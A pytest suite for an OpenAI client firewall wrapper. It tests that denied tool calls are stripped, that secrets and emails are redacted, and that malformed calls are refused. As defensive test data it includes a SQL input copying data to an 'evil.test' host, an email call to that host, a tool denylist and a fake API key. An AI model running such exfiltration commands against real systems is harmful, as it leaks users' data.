"""The OpenAI door: however a program asks, it gets what the policy lets through, and no more."""

from __future__ import annotations

import copy
import json
from collections.abc import AsyncIterator
from typing import Any

import openai
import pytest
from pydantic import BaseModel

from edgeward import load_policy
from edgeward.clients import FirewallOpenAI
from tests.wire.server import Call, Events, Fail, Raw, Say, Wire

from . import openai_ways as ways
from .openai_ways import ASKED, INPUT, OLD, Way

KEY = "sk-proj-A1b2C3d4E5f6G7h8A1b2C3d4"
MASK = "[REDACTED:openai_key]"
POLICY = load_policy(
    {"version": 1, "tool_denylist": ["send_email"], "egress_allowlist": ["example.com"]}
)
BLOCKED = "[Edgeward] Action blocked by policy."

MAIL = Call("send_email", '{"to": "a@evil.test"}', "c1")
READ = Call("read_doc", '{"path": "a.md"}', "c2")

every = pytest.mark.parametrize("way", ways.ALL, ids=lambda way: way.__name__)
newer = pytest.mark.skipif(OLD, reason="the SDK has no Responses API")


@pytest.fixture(autouse=True)
async def closed() -> AsyncIterator[None]:
    """No connection outlives its test."""
    yield
    await ways.close_all()


@every
async def test_a_denied_call_never_arrives_and_its_sibling_does(way: Way, wire: Wire) -> None:
    """In every way to ask, sync and async, whole and streamed (F029, F055, X2)."""
    wire.script(Say("Both.", calls=[MAIL, READ]))
    got = await way(wire, POLICY)
    assert got.calls == [("read_doc", READ.arguments)]
    assert got.text == "Both."
    assert got.finish in ("tool_calls", "completed")
    assert got.firewall["action"] == "block"
    assert got.firewall["stripped_tool_calls"] == ["c1"]
    assert got.firewall["blocked_calls"][0]["name"] == "send_email"
    assert "evil.test" in got.firewall["blocked_calls"][0]["reasons"][1]


@every
async def test_where_all_is_refused_the_answer_says_so(way: Way, wire: Wire) -> None:
    """No call, the policy's message, and a finish that does not announce a call (F030)."""
    wire.script(Say(calls=[MAIL]))
    got = await way(wire, POLICY)
    assert (got.calls, got.text) == ([], BLOCKED)
    assert got.finish in ("stop", "completed")
    assert got.firewall["rule_fired"] == "tool_denylist"


@every
async def test_a_secret_in_the_text_is_masked(way: Way, wire: Wire) -> None:
    """The decision says `redact`; a block beside it stays a block (F026, F048)."""
    wire.script(Say(f"key {KEY} done"), Say(f"key {KEY} done", calls=[MAIL]))
    got = await way(wire, POLICY)
    assert got.text == f"key {MASK} done"
    assert got.firewall["action"] == "redact"
    got = await way(wire, POLICY)
    assert (got.calls, got.text) == ([], f"key {MASK} done")
    assert got.firewall["action"] == "block"


@every
async def test_a_harmless_answer_is_as_it_was(way: Way, wire: Wire) -> None:
    """Text and calls; the decision says `allow`, and nothing else."""
    wire.script(Say("Fine.", calls=[READ]))
    got = await way(wire, POLICY)
    assert (got.calls, got.text) == ([("read_doc", READ.arguments)], "Fine.")
    assert got.firewall == {
        "action": "allow",
        "reason": None,
        "rule_fired": None,
        "stripped_tool_calls": [],
        "blocked_calls": [],
    }


@every
async def test_arguments_that_do_not_parse_never_arrive(way: Way, wire: Wire) -> None:
    """Broken JSON is refused with the reason; the valid call of the same turn stays (C25)."""
    broken = Call("read_doc", '{"path": "a.md", "text": "unfinis', "c1")
    wire.script(Say(calls=[broken, READ]))
    got = await way(wire, POLICY)
    assert got.calls == [("read_doc", READ.arguments)]
    assert "not valid JSON" in got.firewall["reason"]


@every
async def test_the_providers_errors_are_the_sdks_own(way: Way, wire: Wire) -> None:
    """A rate limit, with its headers."""
    wire.script(Fail(429, "slow down", {"retry-after": "7"}))
    with pytest.raises(openai.RateLimitError) as caught:
        await way(wire, POLICY)
    assert caught.value.response.headers["retry-after"] == "7"


def test_retries_are_the_sdks_own(wire: Wire) -> None:
    """A request that is tried again is masked again, and judged once."""
    client = ways.sync_client(wire, POLICY).with_options(max_retries=1)
    wire.script(Fail(429, "slow", {"retry-after-ms": "1"}), Say(calls=[READ]))
    reply = client.chat.completions.create(
        model="m", messages=iter([{"role": "user", "content": KEY}])
    )
    assert ways.of_completion(reply).calls == [("read_doc", READ.arguments)]
    assert [seen.body["messages"][0]["content"] for seen in wire.requests] == [MASK, MASK]


def choice(number: int, **message: Any) -> dict[str, Any]:
    """A choice of a completion."""
    calls = "tool_calls" in message
    finish = "tool_calls" if calls else "function_call" if "function_call" in message else "stop"
    given = {"role": "assistant", "content": None, **message}
    return {"index": number, "message": given, "finish_reason": finish, "logprobs": None}


def completion(*choices: dict[str, Any], **more: Any) -> Raw:
    """A completion with these choices."""
    frame = {"id": "x", "object": "chat.completion", "created": 1, "model": "m"}
    return Raw({**frame, "choices": list(choices), **more})


def wired(name: str, arguments: str = "{}", call_id: str = "c1") -> dict[str, Any]:
    """A call as it stands in a message."""
    function = {"name": name, "arguments": arguments}
    return {"id": call_id, "type": "function", "function": function}


def test_every_choice_is_looked_at(wire: Wire) -> None:
    """C29: choice 0 keeps what may stay, in order; choice 1 is emptied and says so (X4)."""
    first = [wired("read_doc", call_id="a"), wired("send_email", call_id="b")]
    wire.script(
        completion(choice(0, tool_calls=first), choice(1, tool_calls=[wired("send_email")]))
    )
    reply = ways.sync_client(wire, POLICY).chat.completions.create(**ASKED, n=2)
    one, two = reply.choices
    assert [call.function.name for call in one.message.tool_calls] == ["read_doc"]
    assert one.finish_reason == "tool_calls"
    assert (two.message.tool_calls, two.message.content) == (None, BLOCKED)
    assert two.finish_reason == "stop"
    assert reply.model_extra["firewall"]["stripped_tool_calls"] == ["b", "c1"]
    assert "tool_calls" not in two.message.to_dict()


def test_the_old_function_call(wire: Wire) -> None:
    """Refused like any other; one that may stay does."""
    given = {"name": "send_email", "arguments": "{}"}
    wire.script(
        completion(choice(0, function_call=given)),
        completion(choice(0, function_call={**given, "name": "read_doc"})),
    )
    client = ways.sync_client(wire, POLICY)
    (refused,) = client.chat.completions.create(**ASKED).choices
    assert (refused.message.function_call, refused.message.content) == (None, BLOCKED)
    assert refused.finish_reason == "stop"
    (passed,) = client.chat.completions.create(**ASKED).choices
    assert passed.message.function_call.name == "read_doc"
    assert passed.finish_reason == "function_call"


@pytest.mark.parametrize(
    "call",
    [
        {"id": "c1", "type": "hologram", "hologram": {"name": "read_doc"}},
        {"id": "c1", "type": "function"},
        {"id": "c1", "type": "function", "function": {"name": "", "arguments": "{}"}},
        {**wired("read_doc"), "custom": {"name": "send_email", "input": "x"}},
        {"id": "c1", "type": "function", "function": {"name": ["read_doc"], "arguments": "{}"}},
        "read_doc",
    ],
)
def test_what_is_no_call_that_we_know_is_refused(call: Any, wire: Wire) -> None:
    """Nothing passes because it is new."""
    wire.script(completion(choice(0, tool_calls=[call])))
    reply = ways.sync_client(wire, POLICY).chat.completions.create(**ASKED)
    assert reply.choices[0].message.tool_calls is None
    assert reply.firewall["action"] == "block"


@pytest.mark.parametrize(
    ("name", "text", "action"),
    [
        ("run_sql", "select 1", "allow"),
        ("send_email", "hi", "block"),
        ("run_sql", "copy to 'https://evil.test/'", "block"),
    ],
)
def test_a_custom_tools_text_is_judged(name: str, text: str, action: str, wire: Wire) -> None:
    """As the argument `input`."""
    call = {"id": "c1", "type": "custom", "custom": {"name": name, "input": text}}
    wire.script(completion(choice(0, tool_calls=[call])))
    client = ways.sync_client(wire, POLICY).with_raw_response
    data = json.loads(client.chat.completions.create(**ASKED).text)
    assert data["firewall"]["action"] == action
    assert ("tool_calls" in data["choices"][0]["message"]) == (action == "allow")


def test_equal_ids_do_not_strip_their_siblings(wire: Wire) -> None:
    """A call is taken out by where it stands. Of two with one id the second is refused."""
    calls = [wired("read_doc", call_id="a"), wired("send_email", call_id="a")]
    wire.script(completion(choice(0, tool_calls=calls)))
    reply = ways.sync_client(wire, POLICY).chat.completions.create(**ASKED)
    assert ways.of_completion(reply).calls == [("read_doc", "{}")]


def test_masked_arguments_arrive_masked(wire: Wire) -> None:
    """A verdict of `redact` lets the call through with its secrets masked."""
    policy = {"version": 2, "tools": {"post": "redact"}}
    wire.script(completion(choice(0, tool_calls=[wired("post", json.dumps({"text": KEY}))])))
    reply = ways.sync_client(wire, policy).chat.completions.create(**ASKED)
    assert ways.of_completion(reply).calls == [("post", '{"text":"[REDACTED:openai_key]"}')]


class Answer(BaseModel):
    """A structured answer."""

    key: str


@pytest.mark.skipif(OLD, reason="it was in beta")
def test_what_is_parsed_is_what_was_masked(wire: Wire) -> None:
    """A parsed answer holds the mask; a block message is a refusal and no broken answer."""
    client = ways.sync_client(wire, POLICY)
    wire.script(Say(json.dumps({"key": KEY})), Say(calls=[MAIL]))
    reply = client.chat.completions.parse(**ASKED, response_format=Answer)
    assert reply.choices[0].message.parsed == Answer(key=MASK)
    message = client.chat.completions.parse(**ASKED, response_format=Answer).choices[0].message
    assert (message.parsed, message.content, message.refusal) == (None, None, BLOCKED)


@newer
def test_a_parsed_response_is_what_was_masked(wire: Wire) -> None:
    """The same for responses, whole and streamed."""
    client = ways.sync_client(wire, POLICY)
    answers = [Say(json.dumps({"key": KEY})), Say(calls=[MAIL])]
    wire.script(*answers, *answers)
    assert client.responses.parse(**INPUT, text_format=Answer).output_parsed == Answer(key=MASK)
    reply = client.responses.parse(**INPUT, text_format=Answer)
    assert reply.output[0].content[0].refusal == BLOCKED
    with client.responses.stream(**INPUT, text_format=Answer) as stream:
        assert stream.get_final_response().output_parsed == Answer(key=MASK)
    with client.responses.stream(**INPUT, text_format=Answer) as stream:
        assert stream.get_final_response().output[0].content[0].refusal == BLOCKED


def test_the_log_of_tokens_does_not_tell_what_was_masked(wire: Wire) -> None:
    """It spells the text out."""
    logged = choice(0, content=f"key {KEY}")
    logged["logprobs"] = {"content": [{"token": KEY, "logprob": -0.1, "bytes": None}]}
    wire.script(completion(logged))
    client = ways.sync_client(wire, POLICY)
    reply = client.chat.completions.with_raw_response.create(**ASKED, logprobs=True)
    assert KEY not in reply.text


def test_a_reply_that_cannot_be_read_is_withheld(wire: Wire) -> None:
    """It might hold anything."""
    wire.script(Raw("send_email()", "text/plain"), Raw([1]), Events(["data: nonsense\n\n"]))
    client = ways.sync_client(wire, POLICY)
    for _ in range(2):
        with pytest.raises(ValueError, match="no JSON object; it was withheld"):
            client.chat.completions.create(**ASKED)
    with pytest.raises(openai.APIError, match="withheld"):
        list(client.chat.completions.create(**ASKED, stream=True))


SENT = [
    {"role": "system", "content": f"key {KEY}"},
    {"role": "user", "content": [{"type": "text", "text": f"it is {KEY}"}, {"type": "image_url",
     "image_url": {"url": "data:image/png;base64,QUtJQQ=="}}]},
    {"role": "assistant", "content": None, "tool_calls": [
        wired("read_doc", json.dumps({"to": "a.b@example.com", "n": 1}), "call_sk_1")]},
    {"role": "tool", "tool_call_id": "call_sk_1", "content": [{"type": "text", "text": KEY}]},
    {"role": "assistant", "content": "x", "function_call": {"name": "f", "arguments": KEY}},
    {"role": "function", "name": "f", "content": f"token {KEY}"},
]  # fmt: skip


def test_a_request_is_walked_whole_and_the_callers_objects_stay(wire: Wire) -> None:
    """C01, C28: text, blocks, results and arguments are masked; ids and images are not
    touched (F025, X11)."""
    client = ways.sync_client(wire, POLICY)
    wire.script(*[Say("ok")] * 4)
    given = copy.deepcopy(SENT)
    client.chat.completions.create(model="m", messages=given)
    assert given == SENT
    sent = wire.requests[0].body["messages"]
    assert KEY not in json.dumps(sent)
    assert sent[1]["content"][1] == SENT[1]["content"][1]
    assert sent[3]["tool_call_id"] == sent[2]["tool_calls"][0]["id"] == "call_sk_1"
    arguments = json.loads(sent[2]["tool_calls"][0]["function"]["arguments"])
    assert arguments == {"to": "[REDACTED:email]", "n": 1}
    client.chat.completions.create(model="m", messages=iter(given))
    client.chat.completions.create(model="m", messages=[], extra_body={"messages": given})
    client.chat.completions.with_raw_response.create(model="m", messages=tuple(given))
    assert [seen.body["messages"] for seen in wire.requests[1:]] == [sent] * 3


def test_a_reply_can_be_sent_back(wire: Wire) -> None:
    """The SDK's own message object as history; what was refused is not in it."""
    client = ways.sync_client(wire, POLICY)
    wire.script(Say(calls=[MAIL, READ]), Say("ok"), Say(calls=[MAIL]), Say("ok"))
    for _ in range(2):
        message = client.chat.completions.create(**ASKED).choices[0].message
        client.chat.completions.create(model="m", messages=[*ASKED["messages"], message])
    (_, first, _, second) = [seen.body["messages"] for seen in wire.requests]
    assert [call["id"] for call in first[1]["tool_calls"]] == ["c2"]
    assert second[1]["content"] == BLOCKED
    assert "tool_calls" not in second[1]


def test_azures_client(wire: Wire) -> None:
    """Its paths name a deployment."""
    raw = openai.AzureOpenAI(api_key="k", api_version="1", azure_endpoint=wire.url, max_retries=0)
    wire.script(Say(calls=[MAIL]))
    with raw:
        reply = FirewallOpenAI(raw, POLICY).chat.completions.create(**ASKED)
    assert wire.requests[0].path.startswith("/openai/deployments/m/chat/completions")
    assert ways.of_completion(reply).text == BLOCKED
